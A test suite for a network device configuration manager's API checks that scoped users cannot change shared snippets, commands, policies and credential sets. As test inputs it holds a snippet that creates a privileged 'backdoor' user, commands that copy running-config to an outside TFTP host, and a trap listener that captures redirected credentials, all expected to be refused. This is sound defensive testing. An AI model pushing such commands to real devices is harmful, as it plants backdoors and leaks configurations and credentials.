import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { eq } from "drizzle-orm";
import { ABILITIES } from "../../platform/auth/abilities.ts";
import { devices } from "../../db/schema/index.ts";
import { createTestContext, type TestContext } from "../../../test/helpers/app.ts";
import { builtinTemplateId, downloadOnce, iosScript } from "../../../test/helpers/collector.ts";
import { startFakeDevice, type FakeDevice } from "../../../test/helpers/fake-device.ts";

/**
 * Acting through objects several devices share (issue 46): a token with every ability whose role sees only the
 * devices tagged zone-a may not change what other devices get, and no token may point a credential set it may
 * not use at an address it chose.
 */
let t: TestContext;
let admin: string;
let scoped: string;
let names = 0;

const call = (path: string, method: string, token: string, body?: unknown) => t.call(path, { method, token, body });

async function device(body: Record<string, unknown>, token = admin): Promise<number> {
  const res = await call("/api/v1/devices", "POST", token, {
    device_name: `shared-dev-${++names}`,
    device_ip: `192.0.2.${names}`,
    device_vendor: "Cisco",
    ...body,
  });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.data.id;
}
async function created(path: string, body: Record<string, unknown>, token = admin): Promise<number> {
  const res = await call(path, "POST", token, body);
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.data.id;
}

beforeAll(async () => {
  t = await createTestContext();
  admin = await t.token();
  await t.role({ name: "zone-a team", permissions: ABILITIES, tags: ["zone-a"] });
  scoped = await t.token(ABILITIES, { role: "zone-a team" });
});
afterAll(() => t.close());

describe("snippets", () => {
  it("a scoped user cannot edit or delete a snippet a task pushes to devices outside their scope, so the next run pushes the original", async () => {
    const outside = await device({ device_tags: ["zone-b"] });
    const id = await created("/api/v1/snippets", { name: `ntp ${++names}`, content: "ntp server 10.0.0.1" });
    const task = await created("/api/v1/tasks", {
      task_name: `push ${++names}`,
      task_cron: "0 3 * * *",
      task_type: "snippet",
      devices: [outside],
      snippet_id: id,
    });

    const patch = await call(`/api/v1/snippets/${id}`, "PATCH", scoped, {
      content: "username backdoor privilege 15 secret 0 x",
    });
    expect(patch.status).toBe(403);
    expect(patch.body.message).toBe(
      `Snippet ${id} reaches devices outside your role's scope: only a user whose scope covers every device it reaches can create, change or delete it`,
    );
    expect(
      (await call(`/api/v1/snippets/${id}`, "PUT", scoped, { name: "x", content: "username backdoor" })).status,
    ).toBe(403);
    expect((await call(`/api/v1/snippets/${id}`, "DELETE", scoped)).status).toBe(403);
    expect((await call("/api/v1/snippets/bulk", "DELETE", scoped, { ids: [id] })).status).toBe(403);

    const run = await call(`/api/v1/tasks/${task}/run`, "POST", admin);
    expect(run.status).toBe(202);
    const [deployment] = (
      await t.call(`/api/v1/snippet-deployments?filter[task_run_id]=${run.body.data.id}`, { token: admin })
    ).body.data;
    const pushed = (await t.call(`/api/v1/snippet-deployments/${deployment.id}/devices`, { token: admin })).body.data;
    expect(pushed.map((d: { lines: string[] }) => d.lines)).toEqual([["ntp server 10.0.0.1"]]);
  });

  it("a snippet only their own devices get stays theirs to change", async () => {
    const inside = await device({ device_tags: ["zone-a"] });
    const id = await created("/api/v1/snippets", { name: `ntp ${++names}`, content: "ntp server 10.0.0.1" });
    await created(
      "/api/v1/tasks",
      { task_name: `push ${++names}`, task_cron: "0 3 * * *", task_type: "snippet", devices: [inside], snippet_id: id },
      scoped,
    );
    expect((await call(`/api/v1/snippets/${id}`, "PATCH", scoped, { content: "ntp server 10.0.0.2" })).status).toBe(
      200,
    );
  });

  it("deleting a snippet a task names leaves the task naming none (the database's foreign key once refused it)", async () => {
    const inside = await device({ device_tags: ["zone-a"] });
    const id = await created("/api/v1/snippets", { name: `ntp ${++names}`, content: "ntp server 10.0.0.1" });
    const task = await created("/api/v1/tasks", {
      task_name: `push ${++names}`,
      task_cron: "0 3 * * *",
      task_type: "snippet",
      devices: [inside],
      snippet_id: id,
    });
    const removed = await call(`/api/v1/snippets/${id}`, "DELETE", admin);
    expect(removed).toMatchObject({
      status: 200,
      body: {
        message: `Snippet ${id} deleted; 1 snippet task left without a snippet: it pushes nothing until given one`,
      },
    });
    expect((await t.call(`/api/v1/tasks/${task}`, { token: admin })).body.data.snippet_id).toBeNull();
  });
});

describe("commands", () => {
  it("a scoped user cannot change, add to or bulk-delete the commands of a category devices outside their scope use", async () => {
    const shared = await created("/api/v1/categories", { name: `shared ${++names}` });
    await device({ device_tags: ["zone-b"], device_category_id: shared });
    await device({ device_tags: ["zone-a"], device_category_id: shared });
    const command = await created("/api/v1/commands", { command: `show clock ${++names}`, category_ids: [shared] });

    expect(
      (
        await call(`/api/v1/commands/${command}`, "PATCH", scoped, {
          command: "copy running-config tftp://203.0.113.9/x",
        })
      ).status,
    ).toBe(403);
    expect(
      (await call(`/api/v1/commands/${command}`, "PUT", scoped, { command: "show users", category_ids: [shared] }))
        .status,
    ).toBe(403);
    expect((await call(`/api/v1/commands/${command}`, "DELETE", scoped)).status).toBe(403);
    expect((await call("/api/v1/commands/bulk", "DELETE", scoped, { ids: [command] })).status).toBe(403);
    const inject = await call("/api/v1/commands", "POST", scoped, {
      command: "copy running-config tftp://203.0.113.9/y",
      category_ids: [shared],
    });
    expect(inject.status).toBe(403);
    expect(inject.body.message).toContain("The new command reaches devices outside your role's scope");

    const listed = (await t.call(`/api/v1/commands?filter[category_id]=${shared}`, { token: admin })).body.data;
    expect(listed.map((c: { command: string }) => c.command)).toEqual([`show clock ${names}`]);
  });

  it("commands of a category only their devices use are theirs, and one cannot be moved into a shared category", async () => {
    const own = await created("/api/v1/categories", { name: `own ${++names}` });
    const shared = await created("/api/v1/categories", { name: `shared ${++names}` });
    await device({ device_tags: ["zone-a"], device_category_id: own });
    await device({ device_tags: ["zone-b"], device_category_id: shared });
    const command = await created(
      "/api/v1/commands",
      { command: `show ip route ${++names}`, category_ids: [own] },
      scoped,
    );
    expect((await call(`/api/v1/commands/${command}`, "PATCH", scoped, { description: "routes" })).status).toBe(200);
    expect((await call(`/api/v1/commands/${command}`, "PATCH", scoped, { category_ids: [own, shared] })).status).toBe(
      403,
    );
    expect((await t.call(`/api/v1/commands/${command}`, { token: admin })).body.data.category_ids).toEqual([own]);
  });
});

describe("credential sets", () => {
  const SET = { cred_username: "netops", cred_password: "Shared-Set-Pass-1" };
  let listener: FakeDevice;
  let templateId: number;
  beforeAll(async () => {
    // A listener on loopback that logs in whoever sends the shared set's username and password.
    const { script, prompt } = iosScript("trap", ["hostname trap"]);
    listener = await startFakeDevice({
      script,
      initPrompt: prompt,
      auth: { username: SET.cred_username, password: SET.cred_password },
    });
    templateId = await builtinTemplateId(t, "cisco-ios");
  });
  afterAll(() => listener.close());

  /** Runs a download of every device pointed at the listener, as the collector would; how many logged in with the set. */
  async function loginsAtListener(): Promise<number> {
    const pointed = await t.db.select({ id: devices.id }).from(devices).where(eq(devices.portOverride, listener.port));
    for (const { id } of pointed) await downloadOnce(t, id, { connectTimeoutMs: 2000, jobTimeLimitMs: 10_000 });
    return listener.sessions;
  }

  it("a token without credentials.read cannot attach a set, by any write path, so its credentials never reach an address it chose", async () => {
    const setId = await created("/api/v1/device-credentials", { cred_name: `core ${++names}`, ...SET });
    await device({ device_cred_id: setId });
    const limited = await t.token(["devices.read", "devices.write", "configs.read"]);
    const trap = {
      device_ip: "127.0.0.1",
      device_port_override: listener.port,
      device_vendor: "Cisco",
      device_template_id: templateId,
    };

    const single = await call("/api/v1/devices", "POST", limited, {
      device_name: `trap-${++names}`,
      ...trap,
      device_cred_id: setId,
    });
    expect(single.status).toBe(403);
    expect(single.body.message).toBe(
      `device_cred_id: using credential set ${setId} needs the credentials.read ability, which this token or its role lacks`,
    );
    expect(
      (
        await call("/api/v1/devices/bulk", "POST", limited, {
          devices: [{ device_name: `trap-${++names}`, ...trap, device_snippet_cred_id: setId }],
        })
      ).status,
    ).toBe(403);
    expect(
      (
        await call("/api/v2/devices", "POST", limited, {
          device_name: `trap-${++names}`,
          ...trap,
          device_cred_id: setId,
        })
      ).status,
    ).toBe(403);
    // rConfig's StoreDeviceRequest shape: ids as text, the template as a list, empty own login with the default-creds switch on.
    const rconfig = await call("/api/v1/devices", "POST", limited, {
      device_name: `trap-${++names}`,
      device_ip: "127.0.0.1",
      device_vendor: "Cisco",
      device_port_override: String(listener.port),
      device_template: [{ id: templateId }],
      device_cred_id: String(setId),
      device_default_creds_on: true,
      device_username: "",
      device_password: "",
    });
    expect(rconfig.status, JSON.stringify(rconfig.body)).toBe(403);
    // The settings' default set is attached too when a new device names no login of its own.
    expect((await call("/api/v1/settings", "PATCH", admin, { default_credential_id: setId })).status).toBe(200);
    const byDefault = await call("/api/v1/devices", "POST", limited, { device_name: `trap-${++names}`, ...trap });
    expect(byDefault.status).toBe(403);
    expect(byDefault.body.message).toContain("as device_cred_id was not sent");
    expect((await call("/api/v1/settings", "PATCH", admin, { default_credential_id: null })).status).toBe(200);

    // A device with its own login it may point anywhere; attaching the set to it afterwards is refused too.
    const own = await device(
      { device_name: `trap-${++names}`, ...trap, device_username: "mine", device_password: "mine" },
      limited,
    );
    expect((await call(`/api/v1/devices/${own}`, "PATCH", limited, { device_cred_id: setId })).status).toBe(403);
    expect(
      (await call("/api/v1/devices/bulk", "PATCH", limited, { devices: [{ id: own, device_cred_id: setId }] })).status,
    ).toBe(403);

    expect(await loginsAtListener()).toBe(0);
  });

  it("a CSV import sets aside the rows that attach a set the importer may not use, and writes the rest", async () => {
    const setId = await created("/api/v1/device-credentials", { cred_name: `import ${++names}`, ...SET });
    const limited = await t.token(["devices.read", "devices.write", "configs.read"]);
    const csv =
      "device_name,device_ip,device_vendor,device_cred_id,device_port_override,device_username,device_password\r\n" +
      `csv-trap-${++names},127.0.0.1,Cisco,${setId},${listener.port},,\r\n` +
      `csv-own-${names},192.0.2.77,Cisco,0,,mine,mine\r\n`;
    const res = await t.call("/api/v1/devices/import", {
      method: "POST",
      token: limited,
      rawBody: csv,
      headers: { "content-type": "text/csv" },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.data).toMatchObject({
      created: 1,
      rejected: 1,
      rows: [
        {
          row: 2,
          action: "reject",
          errors: {
            device_cred_id: [
              `device_cred_id: using credential set ${setId} needs the credentials.read ability, which this token or its role lacks`,
            ],
          },
        },
        { row: 3, action: "create" },
      ],
    });
    expect(await loginsAtListener()).toBe(0);
  });

  it("a device that uses a set keeps it only at its address: moving it needs a caller who may use the set", async () => {
    const setId = await created("/api/v1/device-credentials", { cred_name: `edge ${++names}`, ...SET });
    const id = await device({ device_cred_id: setId, device_template_id: templateId });
    const limited = await t.token(["devices.read", "devices.write", "configs.read"]);
    const move = await call(`/api/v1/devices/${id}`, "PATCH", limited, {
      device_ip: "127.0.0.1",
      device_port_override: listener.port,
    });
    expect(move.status).toBe(403);
    expect(move.body.message).toContain(
      `the device logs in with credential set ${setId}, and changing its address or port would send that set's credentials to the new one`,
    );
    expect((await t.call(`/api/v1/devices/${id}`, { token: admin })).body.data).toMatchObject({
      device_ip: `192.0.2.${names}`,
      device_port_override: null,
    });
    // Other edits keep the set; moving it with a login of its own is allowed.
    expect((await call(`/api/v1/devices/${id}`, "PATCH", limited, { notes: "rack 4" })).status).toBe(200);
    const own = await call(`/api/v1/devices/${id}`, "PATCH", limited, {
      device_ip: "127.0.0.1",
      device_port_override: listener.port,
      device_cred_id: 0,
      device_username: "mine",
      device_password: "mine",
    });
    expect(own.status, JSON.stringify(own.body)).toBe(200);
    expect(await loginsAtListener()).toBe(0);
  });

  it("a scoped caller with credentials.read may attach only a set no device outside their scope uses", async () => {
    const sharedSet = await created("/api/v1/device-credentials", { cred_name: `shared ${++names}`, ...SET });
    await device({ device_tags: ["zone-b"], device_cred_id: sharedSet });
    const ownSet = await created("/api/v1/device-credentials", { cred_name: `own ${++names}`, ...SET });
    const refused = await call("/api/v1/devices", "POST", scoped, {
      device_name: `zone-a-dev-${++names}`,
      device_ip: "192.0.2.200",
      device_vendor: "Cisco",
      device_tags: ["zone-a"],
      device_cred_id: sharedSet,
    });
    expect(refused.status).toBe(403);
    expect(refused.body.message).toContain(
      `credential set ${sharedSet} is also used by devices outside your role's scope`,
    );
    await device({ device_tags: ["zone-a"], device_cred_id: ownSet }, scoped);
    // A device profile hands its set to the devices made from it: naming the shared one is refused as well.
    const profile = await call("/api/v1/device-profiles", "POST", scoped, { name: `p ${++names}`, cred_id: sharedSet });
    expect(profile.status, JSON.stringify(profile.body)).toBe(403);
    expect(
      (await call("/api/v1/device-profiles", "POST", scoped, { name: `p ${++names}`, cred_id: ownSet })).status,
    ).toBe(201);
  });

  it("the listener does catch a set pointed at it by a caller who may use it (the checks above could fail)", async () => {
    const setId = await created("/api/v1/device-credentials", { cred_name: `lab ${++names}`, ...SET });
    await device({
      device_ip: "127.0.0.1",
      device_port_override: listener.port,
      device_template_id: templateId,
      device_cred_id: setId,
    });
    expect(await loginsAtListener()).toBe(1);
  });
});

describe("compliance policies and assignments", () => {
  const DEFINITION = "// Description: NTP is set\n#[must_match_single_string]\nntp server\n";

  it("a scoped user sees only their devices of an assignment, none of one about other devices, and changes neither", async () => {
    const inside = await device({ device_tags: ["zone-a"] });
    const outside = await device({ device_tags: ["zone-b"] });
    const policy = await created("/api/v1/policies", { name: `ntp ${++names}`, definition: DEFINITION });
    const foreign = await created("/api/v1/policy-assignments", {
      policy_id: policy,
      scope: "devices",
      devices: [outside],
    });
    const mixed = await created("/api/v1/policy-assignments", {
      policy_id: policy,
      scope: "devices",
      devices: [inside, outside],
    });

    expect((await t.call(`/api/v1/policy-assignments/${foreign}`, { token: scoped })).status).toBe(404);
    const listed = (await t.call(`/api/v1/policy-assignments?filter[policy_id]=${policy}`, { token: scoped })).body
      .data;
    expect(listed.map((a: { id: number; devices: number[] }) => [a.id, a.devices])).toEqual([[mixed, [inside]]]);
    expect((await t.call(`/api/v1/policy-assignments/${mixed}`, { token: scoped })).body.data.devices).toEqual([
      inside,
    ]);
    expect((await t.call(`/api/v1/policy-assignments/${mixed}`, { token: admin })).body.data.devices).toEqual([
      inside,
      outside,
    ]);
    // The policy's count of assignments counts only those the caller sees.
    expect((await t.call(`/api/v1/policies/${policy}`, { token: scoped })).body.data.assignments_count).toBe(1);
    expect((await t.call(`/api/v1/policies/${policy}`, { token: admin })).body.data.assignments_count).toBe(2);

    for (const id of [foreign, mixed]) {
      const expected = id === foreign ? 404 : 403;
      expect((await call(`/api/v1/policy-assignments/${id}`, "PATCH", scoped, { enabled: false })).status).toBe(
        expected,
      );
      expect((await call(`/api/v1/policy-assignments/${id}`, "DELETE", scoped)).status).toBe(expected);
      expect((await call(`/api/v2/policy-assignments/${id}`, "DELETE", scoped)).status).toBe(expected);
    }
    expect((await call(`/api/v1/policy-assignments/${foreign}/run`, "POST", scoped)).status).toBe(404);
    expect((await call("/api/v1/policy-assignments/bulk", "DELETE", scoped, { ids: [mixed] })).status).toBe(403);
    expect((await t.call(`/api/v1/policy-assignments/${mixed}`, { token: admin })).body.data.enabled).toBe(true);

    // The policy judges the out-of-scope devices too: its rules are not the scoped user's to change.
    const edit = await call(`/api/v1/policies/${policy}`, "PATCH", scoped, {
      definition: "#[must_match_single_string]\nhostname\n",
    });
    expect(edit.status).toBe(403);
    expect(edit.body.message).toContain(`Policy ${policy} reaches devices outside your role's scope`);
    expect((await call(`/api/v1/policies/${policy}`, "DELETE", scoped)).status).toBe(403);
  });

  it("a scoped user assigns policies to their own devices only", async () => {
    const inside = await device({ device_tags: ["zone-a"] });
    const policy = await created("/api/v1/policies", { name: `own ${++names}`, definition: DEFINITION }, scoped);
    expect((await call("/api/v1/policy-assignments", "POST", scoped, { policy_id: policy, scope: "all" })).status).toBe(
      403,
    );
    const zoneB = (await t.call("/api/v1/tags?filter[name]=zone-b", { token: admin })).body.data[0].id;
    expect(
      (await call("/api/v1/policy-assignments", "POST", scoped, { policy_id: policy, scope: "tags", tags: [zoneB] }))
        .status,
    ).toBe(403);
    const own = await created(
      "/api/v1/policy-assignments",
      { policy_id: policy, scope: "devices", devices: [inside] },
      scoped,
    );
    expect((await call(`/api/v1/policy-assignments/${own}`, "PATCH", scoped, { description: "mine" })).status).toBe(
      200,
    );
    expect((await call(`/api/v1/policies/${policy}`, "PATCH", scoped, { description: "mine" })).status).toBe(200);
  });
});

describe("compare exclusions", () => {
  it("reach every device: a scoped user may not add, change or delete one", async () => {
    const add = await call("/api/v1/compare-exclusions", "POST", scoped, { pattern: "." });
    expect(add.status).toBe(403);
    expect(add.body.message).toBe(
      "The new compare exclusion reaches every device, including devices outside your role's scope: only a user whose role sees all devices can create, change or delete it",
    );
    expect(
      (await call("/api/v1/compare-exclusions", "POST", scoped, { pattern: ".", command: "show running-config" }))
        .status,
    ).toBe(403);
    const id = await created("/api/v1/compare-exclusions", { pattern: "^! Last configuration change" });
    expect((await call(`/api/v1/compare-exclusions/${id}`, "PATCH", scoped, { pattern: "." })).status).toBe(403);
    expect((await call(`/api/v2/compare-exclusions/${id}`, "PUT", scoped, { pattern: "." })).status).toBe(403);
    expect((await call(`/api/v1/compare-exclusions/${id}`, "DELETE", scoped)).status).toBe(403);
    expect(
      (await t.call("/api/v1/compare-exclusions", { token: admin })).body.data.map(
        (e: { pattern: string }) => e.pattern,
      ),
    ).toEqual(["^! Last configuration change"]);
  });
});

describe("mail subscriptions", () => {
  it("a scoped user sets their own, not an administrator's", async () => {
    const adminId = await t.user();
    const scopedId = await t.user({ role: "zone-a team" });
    const token = await t.token(ABILITIES, { userId: scopedId });
    const silence = await call(`/api/v1/users/${adminId}/mail-subscriptions`, "PUT", token, { task_failures: false });
    expect(silence.status).toBe(403);
    expect(silence.body.message).toContain(`You cannot change the mail subscriptions of user 'user`);
    expect((await call(`/api/v2/users/${adminId}/mail-subscriptions`, "PUT", token, {})).status).toBe(403);
    expect(
      (await call(`/api/v1/users/${scopedId}/mail-subscriptions`, "PUT", token, { task_failures: true })).status,
    ).toBe(200);
    expect(
      (await call(`/api/v1/users/${scopedId}/mail-subscriptions`, "PUT", admin, { config_changes: true })).status,
    ).toBe(200);
  });
});
